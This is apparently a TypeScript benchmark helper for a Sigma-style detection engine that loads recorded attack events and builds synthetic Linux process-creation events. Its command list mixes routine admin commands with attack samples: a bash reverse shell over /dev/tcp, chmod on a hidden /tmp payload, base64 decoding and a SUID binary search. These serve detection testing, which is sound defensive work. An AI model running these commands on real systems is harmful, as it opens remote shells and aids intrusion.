/**
 * Benchmark workloads from the vendored corpus (test/corpus): recorded attack events read whole, and
 * synthetic Linux process_creation events in the field names SigmaHQ rules use.
 */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { readEventFile } from '../../collect/event-file';

/** Every event of every *.json file in `dir`, in file name order. */
export async function eventsIn(dir: string): Promise<unknown[]> {
  const files = readdirSync(dir).filter((f) => f.endsWith('.json')).sort();
  const all: unknown[] = [];
  for (const f of files) all.push(...(await readEventFile(join(dir, f))).events);
  return all;
}

/** Deterministic process_creation events in the field names SigmaHQ Linux rules use. */
export function processEvents(): unknown[] {
  const commands: [string, string, string][] = [
    ['/usr/bin/ls', 'ls -la /var/log', '/usr/bin/bash'],
    ['/usr/bin/grep', 'grep -r error /var/log/syslog', '/usr/bin/bash'],
    ['/usr/bin/python3', 'python3 /opt/app/manage.py migrate', '/usr/bin/bash'],
    ['/usr/bin/systemctl', 'systemctl status nginx', '/usr/bin/sudo'],
    ['/usr/bin/cat', 'cat /etc/os-release', '/usr/bin/bash'],
    ['/usr/bin/git', 'git pull --rebase', '/usr/bin/zsh'],
    ['/usr/sbin/sshd', '/usr/sbin/sshd -D -R', '/usr/sbin/sshd'],
    ['/usr/bin/curl', 'curl -s https://example.com/health', '/usr/bin/bash'],
    ['/usr/bin/node', 'node /srv/api/server.js', '/usr/bin/bash'],
    ['/usr/bin/tar', 'tar czf /backup/etc.tgz /etc', '/usr/sbin/cron'],
    ['/usr/bin/bash', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', '/usr/bin/python3'],
    ['/usr/bin/chmod', 'chmod +x /tmp/.x/payload', '/usr/bin/bash'],
    ['/usr/bin/base64', 'base64 -d /tmp/blob', '/usr/bin/sh'],
    ['/usr/bin/crontab', 'crontab -l', '/usr/bin/bash'],
    ['/usr/bin/find', 'find / -perm -4000 -type f', '/usr/bin/bash'],
    ['/usr/bin/id', 'id', '/usr/bin/bash'],
  ];
  return commands.flatMap(([Image, CommandLine, ParentImage], i) =>
    ['root', 'www-data', 'alice'].map((User, j) => ({
      Image,
      CommandLine,
      ParentImage,
      ParentCommandLine: ParentImage,
      User,
      CurrentDirectory: '/home/alice',
      ProcessId: 1000 + i * 3 + j,
      ParentProcessId: 900 + i,
      Hostname: `node-${j}`,
    })),
  );
}

